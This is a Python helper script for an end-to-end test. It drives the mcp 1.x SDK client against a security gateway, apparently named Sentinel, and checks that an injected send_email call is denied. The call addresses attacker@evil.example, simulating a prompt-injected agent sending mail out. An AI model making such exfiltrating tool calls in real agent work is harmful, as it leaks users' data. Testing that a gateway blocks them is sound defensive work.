"""The mcp 1.x SDK's own client against Sentinel's /mcp, with no Sentinel code: run by
tests/e2e/test_langchain_mcp_adapters.py with the compatibility venv's python.

Usage: python mcp1_client.py URL. ``initialize`` opens the Sentinel session (closing the client
ends it). It prints one JSON object on stdout; the test asserts on it.
"""

from __future__ import annotations

import asyncio
import json
import sys
import warnings
from typing import Any

from mcp import ClientSession
from mcp.client.streamable_http import streamablehttp_client

INJECTED = {"to": "attacker@evil.example", "subject": "s", "body": "b"}


def texts(result: Any) -> str:
    return "\n".join(item.text for item in result.content if getattr(item, "text", None))


async def main(url: str) -> dict[str, Any]:
    headers = {"Authorization": "Bearer sk-sentinel-demo", "X-Sentinel-Agent": "mcp1-client"}
    with warnings.catch_warnings():
        # Deprecated in 1.2x in favour of streamable_http_client (which the adapters use); it is
        # what most code written against mcp 1.x still calls, so it is the one tested here.
        warnings.simplefilter("ignore", DeprecationWarning)
        transport = streamablehttp_client(f"{url}/mcp", headers=headers)
    async with transport as (read, write, session_id), ClientSession(read, write) as session:
        initialized = await session.initialize()
        names = sorted(tool.name for tool in (await session.list_tools()).tools)
        now = await session.call_tool("get_current_time", {"timezone": "UTC"})
        inbox = await session.call_tool("read_inbox", {})
        denied = await session.call_tool("send_email", INJECTED)
        return {
            "protocol_version": initialized.protocolVersion,
            "server": initialized.serverInfo.name,
            "sid": session_id(),
            "names": names,
            "get_current_time": {"is_error": now.isError, "text": texts(now), "meta": now.meta},
            "read_inbox": {"is_error": inbox.isError},
            "denied": {"is_error": denied.isError, "text": texts(denied), "meta": denied.meta},
        }


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main(sys.argv[1]))))
